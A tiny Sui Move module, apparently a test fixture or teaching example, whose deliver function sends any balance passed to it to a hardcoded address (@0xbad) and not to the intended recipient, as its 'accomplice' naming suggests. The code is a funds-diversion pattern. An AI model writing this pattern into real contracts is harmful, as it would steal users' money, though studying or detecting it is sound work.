/// Delivers money for others, to an address of its own.
module accomplice::courier;

use sui::balance::Balance;

const COLLECTOR: address = @0xbad;

public fun deliver<C>(money: Balance<C>, ctx: &mut TxContext) {
    transfer::public_transfer(money.into_coin(ctx), COLLECTOR)
}
